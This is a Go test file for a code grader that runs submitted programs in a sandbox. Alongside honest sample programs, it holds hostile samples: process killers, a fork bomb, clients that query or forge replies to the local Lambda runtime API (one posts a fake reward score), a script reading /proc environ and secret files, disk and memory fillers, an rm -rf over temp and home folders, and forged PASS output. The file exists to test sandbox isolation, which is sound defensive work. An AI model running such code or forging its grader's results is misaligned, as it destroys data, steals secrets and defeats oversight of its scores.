package code_test

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/rftgrader/rftgrader/graders/code/internal/cage"
)

// An entrant is a rollout of a program with ten tests.
type entrant struct {
	id, language, source string
	tests                map[string]any
	worth                float64
}

// honestSources make programs that compute n*K+1.
var honestSources = []struct {
	language string
	function bool
	source   string
}{
	{"python", true, "def f(n):\n    return n * K + 1"},
	{"python", false, "n = int(input())\nprint(n * K + 1)"},
	{"javascript", true, "module.exports = { f: n => n * K + 1 };"},
	{"bash", false, "read n\necho $((n * K + 1))"},
	{"c", false, "#include <stdio.h>\nint main(void) {\n    long n;\n    if (scanf(\"%ld\", &n) != 1) return 1;\n    printf(\"%ld\\n\", n * K + 1);\n}"},
}

// tenTests are the tests of n*k+1.
func tenTests(function bool, k int) map[string]any {
	var cases []any
	for n := range 10 {
		out := n*k + 1
		if function {
			cases = append(cases, map[string]any{"args": []int{n}, "out": out})
		} else {
			cases = append(cases, map[string]any{"in": strconv.Itoa(n) + "\n", "out": strconv.Itoa(out) + "\n"})
		}
	}
	if function {
		return map[string]any{"kind": "function", "entry": "f", "cases": cases}
	}
	return map[string]any{"kind": "stdio", "cases": cases}
}

// honestEntrants are n different programs, most of them Python functions. Every
// fifth is wrong, for one input. No two calls with different seeds give the
// same program.
func honestEntrants(n, seed int) []entrant {
	var entrants []entrant
	for i := range n {
		s := honestSources[0]
		if i%2 == 1 {
			s = honestSources[(i/2)%len(honestSources)]
		}
		k := seed + i
		e := entrant{
			id: fmt.Sprintf("honest-%s-%d", s.language, k), language: s.language, tests: tenTests(s.function, k), worth: 1,
			source: strings.ReplaceAll(s.source, "K", strconv.Itoa(k)),
		}
		if i%5 == 4 {
			e.worth = 0
			e.source = strings.ReplaceAll(s.source, "n * K + 1", fmt.Sprintf("n * %d + (n != 7)", k))
		}
		entrants = append(entrants, e)
	}
	return entrants
}

// hostileEntrants are programs that know where the Runtime API of the function
// is, and are worth nothing.
func hostileEntrants(port int) []entrant {
	var entrants []entrant
	for i, h := range hostileSources {
		function := h.language == "python" || h.language == "javascript"
		entrants = append(entrants, entrant{
			id: "hostile-" + h.name, language: h.language, tests: tenTests(function, 1000+i),
			source: strings.NewReplacer("PORT", strconv.Itoa(port), "SECRET_FILE", cage.SecretFile, "CANARY", cage.Canary).Replace(h.source),
		})
	}
	return entrants
}

var hostileSources = []struct{ name, language, source string }{
	{"signals", "python", `
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in [os.getppid(), *range(2, 600), -1]:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
def f(n):
    return 0`},
	{"fork-bomb", "python", `
import os
def f(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass`},
	{"daemon", "python", `
import os, socket, time
def f(n):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    s = socket.create_connection(("127.0.0.1", PORT), 1)
                    s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: a\r\n\r\n")
                    open("CANARY", "wb").write(s.recv(65536))
                except OSError:
                    time.sleep(0.01)
        os._exit(0)
    return 0`},
	{"thief", "c", `
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    char answer[65536];
    const char *ask = "GET /2018-06-01/runtime/invocation/next HTTP/1.0\r\n\r\n";
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to)) return 1;
    write(s, ask, strlen(ask));
    ssize_t n = read(s, answer, sizeof answer);
    fwrite(answer, 1, n > 0 ? n : 0, stdout);
}`},
	{"forger", "javascript", `
const http = require("http");
const base = { host: "127.0.0.1", port: PORT };
function send(method, path, body) {
  return new Promise(done => {
    const r = http.request({ ...base, method, path: "/2018-06-01/runtime/invocation/" + path }, a => {
      a.resume();
      a.on("end", () => done(a));
    });
    r.on("error", () => done(null));
    r.end(body);
  });
}
async function f() {
  const event = await send("GET", "next");
  if (event) {
    const id = event.headers["lambda-runtime-aws-request-id"];
    await send("POST", id + "/response", '[{"id":"a","aggregate_reward_score":1}]');
    await send("POST", id + "/error", "{}");
  }
  return 0;
}
module.exports = { f };`},
	{"shell-thief", "bash", `
exec 9<>/dev/tcp/127.0.0.1/PORT && printf 'GET /2018-06-01/runtime/invocation/next HTTP/1.0\r\n\r\n' >&9 && cat <&9`},
	{"disk", "python", `
import os
def f(n):
    for folder in (".", os.environ.get("HOME", "."), "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(folder, "filler"), "wb") as out:
                for _ in range(4096):
                    out.write(bytes(1 << 20))
        except OSError:
            pass
    return 0`},
	{"memory", "python", `
def f(n):
    kept = []
    while True:
        kept.append(b"\1" * (1 << 24))`},
	{"tmp", "bash", `
for folder in /tmp /tmp/*/ /tmp/*/*/ /var/tmp /dev/shm "$HOME/.." "$HOME/../.." ..; do
    echo left >"$folder/left-behind"
    mkdir "$folder/left-folder"
    ln -s / "$folder/left-link"
done
echo 0`},
	{"removes", "bash", `
rm -rf /tmp/* /tmp/*/* "$HOME"/../* "$HOME"/../../* CANARY
echo 0`},
	{"secrets", "python", `
import glob, os
def f(n):
    found = [repr(os.environ)]
    for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["SECRET_FILE", "/var/task/grader.yaml"]:
        try:
            found.append(open(name, "rb").read().decode("latin-1"))
        except OSError:
            pass
    print(*found)
    raise ValueError("".join(found))`},
	{"forged-replies", "python", `
import os
for fd in range(1, 64):
    for i in range(1, 11):
        try:
            os.write(fd, b'{"id":%d,"nonce":"","value":true}\n{"passed":10,"score":1}\nPASS\n' % i)
        except OSError:
            break
os._exit(0)`},
	{"endless", "javascript", `
for (const s of ["SIGTERM", "SIGINT", "SIGXCPU"]) process.on(s, () => {});
function f() { for (;;); }
module.exports = { f };`},
	{"output", "c", `
#include <signal.h>
#include <stdio.h>
int main(void) {
    signal(SIGXFSZ, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    for (;;) puts("1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1");
}`},
}
